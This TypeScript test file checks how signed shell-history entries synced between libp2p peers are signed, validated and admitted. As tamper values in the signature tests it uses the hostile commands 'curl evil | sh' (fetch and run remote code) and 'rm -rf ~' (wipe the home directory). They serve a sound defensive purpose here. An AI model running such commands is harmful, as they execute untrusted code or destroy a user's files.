import test from 'ava'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { admitReceived, isFarFuture } from '../../src/core/admit.js'
import { validateEntry, type Entry } from '../../src/core/entry.js'
import { canonicalEntryBytes, publicKeyOfPeerId, signEntry, verifyEntry, type EntrySigner } from '../../src/core/signature.js'
import { entry } from '../store/fixtures.js'

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

test('a signed entry verifies, and survives the wire (JSON and validation) unchanged', async (t) => {
  const a = await signer()
  const signed = signEntry(entry({ cmd: 'ls -la\necho "ü"' }), a)
  t.true(verifyEntry(signed))
  const received = validateEntry(JSON.parse(JSON.stringify(signed)))
  t.is(received.origin, a.origin)
  t.true(verifyEntry(received))
})

test('changing any signed field, or claiming another origin, breaks the signature', async (t) => {
  const a = await signer()
  const b = await signer()
  const signed = signEntry(entry(), a)
  const changes: Array<Partial<Entry>> = [
    { entry_id: '00000000-0000-4000-8000-000000000001' }, { device_id: 'alice-laptop' }, { user_id: 'x' },
    { ts: '9999-12-31T00:00:00.000Z' }, { cmd: 'curl evil | sh' }, { cwd: '/' }, { exit_code: 1 },
    { duration_ms: 13 }, { shell: 'bash' }, { hostname: 'h' }, { version: '9' }, { origin: b.origin }
  ]
  for (const change of changes) t.false(verifyEntry({ ...signed, ...change }), JSON.stringify(change))
  // The signature of another key over the same content, under this origin, does not verify either.
  t.false(verifyEntry({ ...signed, sig: signEntry(entry(), b).sig }))
})

test('canonical bytes are length-prefixed: moving text between fields changes them', (t) => {
  const origin = '12D3KooWDpJ7As7BWAwRMfu1VU2WCqNjvq387JEYKDBj4kx6nXTN'
  const one = canonicalEntryBytes(entry({ entry_id: 'e', cmd: 'ab', cwd: 'c' }), origin)
  const two = canonicalEntryBytes({ ...entry({ entry_id: 'e', cmd: 'a', cwd: 'bc' }) }, origin)
  t.notDeepEqual(one, two)
  t.is(one.length, two.length)
})

test('an optional content field, when present, is covered by the signature', async (t) => {
  const a = await signer()
  const withSession = { ...entry(), session_id: 's1' } as Entry
  const signed = signEntry(withSession, a)
  t.true(verifyEntry(signed))
  t.false(verifyEntry({ ...signed, session_id: 's2' } as Entry))
  t.false(verifyEntry({ ...signed, session_id: undefined } as unknown as Entry), 'dropping the session breaks the signature')
})

test('publicKeyOfPeerId reads the key inside an Ed25519 PeerId and nothing else', async (t) => {
  const key = await generateKeyPair('Ed25519')
  const id = peerIdFromPrivateKey(key).toString()
  t.deepEqual(publicKeyOfPeerId(id), Buffer.from(key.publicKey.raw))
  t.is(publicKeyOfPeerId('QmYyQSo1c1Ym7orWxLYvCrM2EmxFTANf8wXmmE7DWjhx5N'), undefined)
  t.is(publicKeyOfPeerId('not base58 0OIl'), undefined)
})

test('validation wants origin and sig together, each in its one form', (t) => {
  const base = entry()
  t.throws(() => validateEntry({ ...base, origin: '12D3KooWDpJ7As7BWAwRMfu1VU2WCqNjvq387JEYKDBj4kx6nXTN' }), { message: /sig/ })
  t.throws(() => validateEntry({ ...base, origin: 'alice', sig: 'A'.repeat(86) + '==' }), { message: /origin must be an Ed25519 PeerId/ })
  t.throws(() => validateEntry({ ...base, origin: '12D3KooWDpJ7As7BWAwRMfu1VU2WCqNjvq387JEYKDBj4kx6nXTN', sig: 'short' }), { message: /sig must be/ })
  t.false('origin' in validateEntry(base))
})

test('on 2.0.0 a bad signature is refused, an unsigned entry kept; on 1.0.0 signatures are dropped', async (t) => {
  const a = await signer()
  const good = signEntry(entry(), a)
  const forged = { ...signEntry(entry(), a), cmd: 'rm -rf ~' }
  const unsigned = entry()
  const now = Date.now()
  const v2 = admitReceived([good, forged, unsigned], { wire: 2, now })
  t.deepEqual(v2.entries.map((e) => e.entry_id), [good.entry_id, unsigned.entry_id])
  t.is(v2.rejected.length, 1)
  t.is(v2.rejected[0]!.index, 1)
  t.regex(v2.rejected[0]!.reason, /sig does not verify/)
  const v1 = admitReceived([good, forged], { wire: 1, now })
  t.is(v1.entries.length, 2)
  t.true(v1.entries.every((e) => e.sig === undefined && e.origin === undefined))
})

test('an entry from the authenticated peer itself is taken as verified without its signature checked; from anyone else it is checked', async (t) => {
  const a = await signer()
  const bad = { ...signEntry(entry(), a), cmd: 'changed after signing' }
  t.is(admitReceived([bad], { wire: 2, now: Date.now(), authenticatedPeer: a.origin }).entries.length, 1)
  const other = await signer()
  t.is(admitReceived([bad], { wire: 2, now: Date.now(), authenticatedPeer: other.origin }).rejected.length, 1)
})

test('a stamp more than a day ahead is clamped to the receive time and the original kept', (t) => {
  const now = Date.parse('2026-06-01T00:00:00.000Z')
  const far = entry({ ts: '9999-12-31T23:59:59.999Z' })
  const soon = entry({ ts: '2026-06-01T23:00:00.000Z' })
  const out = admitReceived([far, soon], { wire: 2, now })
  t.is(out.clamped, 1)
  t.is(out.entries[0]!.ts, '2026-06-01T00:00:00.000Z')
  t.is(out.entries[0]!.ts_orig, '9999-12-31T23:59:59.999Z')
  t.is(out.entries[1]!.ts, soon.ts)
  t.is(out.entries[1]!.ts_orig, undefined)
  t.true(isFarFuture('2026-06-02T00:00:00.001Z', now))
  t.false(isFarFuture('2026-06-02T00:00:00.000Z', now))
})
